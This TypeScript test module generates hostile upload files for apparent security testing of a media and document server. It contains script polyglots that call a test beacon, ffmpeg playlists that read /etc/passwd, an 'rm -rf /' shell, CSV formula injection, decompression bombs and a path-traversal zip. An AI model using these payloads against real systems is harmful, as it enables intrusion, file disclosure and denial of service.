import { deflateRawSync, deflateSync } from 'node:zlib'
import { toneWav } from '../../../apps/server/testing/recordings.ts'

export type HostileFile = { name: string; bytes: Buffer }

const magics: Record<string, string> = {
  pdf: '%PDF-1.7\n',
  png: '\x89PNG\r\n\x1a\n',
  jpg: '\xff\xd8\xff\xe0',
  webp: 'RIFF\x10\0\0\0WEBPVP8 ',
  wav: 'RIFF\x10\0\0\0WAVE',
  mp3: 'ID3\x04\0\0\0\0\0\0',
  m4a: '\0\0\0\x20ftypM4A ',
  webm: '\x1a\x45\xdf\xa3',
  ogg: 'OggS\0\x02',
  flac: 'fLaC\0\0\0\x22',
  csv: 'a;b\n',
  txt: '',
  docx: 'PK\x03\x04....[Content_Types].xml',
  xlsx: 'PK\x03\x04....[Content_Types].xml',
}

/** Some names have an allowed extension, some do not. Scripts in the files call the beacon. */
export function hostileFiles(beacon: string): HostileFile[] {
  const texts = {
    ...polyglots(beacon),
    ...playlists(beacon),
    ...documents(),
  }
  return [
    ...Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text, 'latin1') })),
    ...Object.entries({ ...waves(), ...bombs() }).map(([name, bytes]) => ({ name, bytes })),
    ...cutAndNoise(),
  ]
}

function polyglots(beacon: string): Record<string, string> {
  const call = (what: string) => `fetch('${beacon}/${what}')`
  const pages = {
    page: `<!doctype html><html><body><script>${call('page')}</script><img src=x onerror="${call('image')}">`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="${call('svg')}"><script>${call('svg-script')}</script></svg>`,
    script: `/**/;${call('script')};//`,
    xslt: `<?xml version="1.0"?><?xml-stylesheet href="${beacon}/xslt" type="text/xsl"?><a/>`,
  }
  const whole = Object.entries(pages).flatMap(([kind, text]) => [
    ...Object.entries(magics).map(([extension, magic]) => [`${kind}.${extension}`, magic + text]),
    ...['html', 'svg', 'js', 'xml', 'xhtml', 'mht', 'html.wav.html'].map((extension) => [`${kind}.${extension}`, text]),
  ])
  return { ...Object.fromEntries(whole), 'page-without-head.wav': pages.page, 'page-without-head.png': pages.page }
}

/** Playlists that make ffmpeg open other files or connect to the network. */
function playlists(beacon: string): Record<string, string> {
  const lists = {
    hls: `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${beacon}/hls.ts\n#EXT-X-ENDLIST\n`,
    'hls-file': '#EXTM3U\n#EXTINF:10.0,\nconcat:file:///etc/passwd|subfile,,start,0,end,9,,:/etc/passwd\n',
    'hls-key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${beacon}/key"\n#EXTINF:1,\nfile:///etc/passwd\n`,
    concat: `ffconcat version 1.0\nfile '/etc/passwd'\nfile '${beacon}/concat.wav'\n`,
    dash: `<?xml version="1.0"?><MPD><BaseURL>${beacon}/dash</BaseURL></MPD>`,
    sdp: 'v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n',
    pls: `[playlist]\nFile1=${beacon}/pls\n`,
  }
  return Object.fromEntries(
    Object.entries(lists).flatMap(([kind, text]) =>
      ['wav', 'mp3', 'ogg', 'm4a', 'webm', 'txt'].map((extension) => [`${kind}.${extension}`, text]),
    ),
  )
}

function documents(): Record<string, string> {
  // Split in two, so that virus scanners do not flag this source file.
  const eicar = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-${'STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`
  return {
    'eicar.txt': eicar,
    'eicar.csv': eicar,
    'program.txt': 'MZ\x90\x00\x03',
    'elf.txt': '\x7fELF\x02\x01\x01',
    'shell.txt': '#!/bin/sh\nrm -rf /\n',
    'macro.docx': 'PK\x03\x04word/vbaProject.bin',
    'action.pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
    'formula.csv': '=cmd|calc!A1;@SUM(1);+1;-1\n',
    'link.txt': '[InternetShortcut]\nURL=file:///etc/passwd',
    'nothing.wav': '',
    'nothing.txt': '',
  }
}

/** A WAV file with a custom header: `fields` are those of `fmt `. */
function wav({
  format = 1,
  channels = 1,
  rate = 16_000,
  frameBytes = 2,
  bits = 16,
  length = 0,
  data = Buffer.alloc(160_000),
}) {
  const head = Buffer.alloc(44)
  head.write('RIFF', 0, 'latin1')
  head.write('WAVEfmt ', 8, 'latin1')
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(format, 20)
  head.writeUInt16LE(channels, 22)
  head.writeUInt32LE(rate, 24)
  head.writeUInt32LE((rate * frameBytes) >>> 0, 28)
  head.writeUInt16LE(frameBytes, 32)
  head.writeUInt16LE(bits, 34)
  head.write('data', 36, 'latin1')
  head.writeUInt32LE(length || data.length, 40)
  return Buffer.concat([head, data])
}

function waves(): Record<string, Buffer> {
  const good = toneWav(5)
  const chunk = (name: string, length: number, body: Buffer = Buffer.alloc(0)) => {
    const head = Buffer.alloc(8)
    head.write(name, 0, 'latin1')
    head.writeUInt32LE(length, 4)
    return Buffer.concat([head, body])
  }
  const [start, rest] = [good.subarray(0, 12), good.subarray(12)]
  const page = Buffer.from('<html><script>alert(1)</script>')
  return {
    '600-hours.wav': wav({ length: 0xffff_ffff }),
    'no-rate.wav': wav({ rate: 0 }),
    'rate-of-one.wav': wav({ rate: 1 }),
    'rate-beyond-all.wav': wav({ rate: 0xffff_ffff }),
    '65535-channels.wav': wav({ channels: 65_535, frameBytes: 65_535 }),
    'no-channels.wav': wav({ channels: 0 }),
    'no-frame.wav': wav({ frameBytes: 0 }),
    'frame-of-one.wav': wav({ frameBytes: 1, bits: 16 }),
    'bits-of-none.wav': wav({ bits: 0 }),
    'bits-of-65535.wav': wav({ bits: 65_535 }),
    'float-of-16.wav': wav({ format: 3 }),
    'not-a-number.wav': wav({ format: 3, bits: 32, frameBytes: 4, data: Buffer.alloc(320_000, 0xff) }),
    'extensible-without-more.wav': wav({ format: 0xfffe }),
    'adpcm.wav': wav({ format: 2 }),
    'mp3-in-wav.wav': wav({ format: 0x55 }),
    'endless-junk.wav': Buffer.concat([start, chunk('JUNK', 0xffff_fff0)]),
    'a-million-chunks.wav': Buffer.concat([start, Buffer.alloc(8_000_000, chunk('JUNK', 0)), rest]),
    'data-first.wav': Buffer.concat([start, chunk('data', 160_000, Buffer.alloc(160_000)), rest]),
    'wav-in-wav.wav': Buffer.concat([start, chunk('JUNK', good.length, good), rest]),
    'page-in-wav.wav': Buffer.concat([
      start,
      chunk('LIST', page.length + 1, Buffer.concat([page, Buffer.alloc(1)])),
      rest,
    ]),
    'page-after-wav.wav': Buffer.concat([good, page]),
    'no-riff-length.wav': Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE', 'latin1'), rest]),
    'rf64.wav': Buffer.concat([Buffer.from('RF64', 'latin1'), good.subarray(4)]),
    'flac-of-600-hours.flac': flacOf(2 ** 35 - 1),
    'flac-of-nothing.flac': flacOf(0),
    'flac-of-a-minute.flac': flacOf(960_000),
  }
}

/** A FLAC header for this many samples at 16 kHz, without audio. */
function flacOf(samples: number): Buffer {
  const info = Buffer.alloc(42)
  info.write('fLaC', 0, 'latin1')
  info.writeUInt32BE(0x8000_0022, 4)
  info.writeUInt16BE(4096, 8)
  info.writeUInt16BE(4096, 10)
  info.writeBigUInt64BE((16_000n << 44n) | (15n << 36n) | BigInt(samples), 18)
  return info
}

function bombs(): Record<string, Buffer> {
  const zeros = Buffer.alloc(20_000_000)
  const zip = (name: string, packed: Buffer, size: number) => {
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x0403_4b50, 0)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(size, 22)
    head.writeUInt16LE(name.length, 26)
    return Buffer.concat([head, Buffer.from(name), packed])
  }
  const packed = deflateRawSync(zeros)
  const size = Buffer.from('IHDR\xff\xff\0\0\xff\xff\0\0\x08\x06\0\0\0', 'latin1')
  return {
    'bomb.docx': zip('[Content_Types].xml', packed, zeros.length),
    'bomb.xlsx': zip('[Content_Types].xml', packed, 0xffff_ffff),
    'climbing.docx': zip('../../[Content_Types].xml', packed, 1),
    'bomb.png': Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\x0d', 'latin1'), size, deflateSync(zeros)]),
    'bomb.wav': Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE', 'latin1'), packed]),
  }
}

function cutAndNoise(): HostileFile[] {
  const good = toneWav(5)
  const lengths = [1, 3, 4, 11, 12, 16, 19, 20, 27, 35, 36, 40, 43, 44, 45, 46, 1000]
  const cuts = lengths.map((length) => ({ name: `cut-${length}.wav`, bytes: good.subarray(0, length) }))
  // Every byte of the header inverted.
  const turned = Array.from({ length: 44 }, (_, at) => {
    const bytes = Buffer.from(good)
    bytes[at] = 0xff ^ bytes[at]!
    return { name: `turned-${at}.wav`, bytes }
  })
  return [...cuts, ...turned]
}
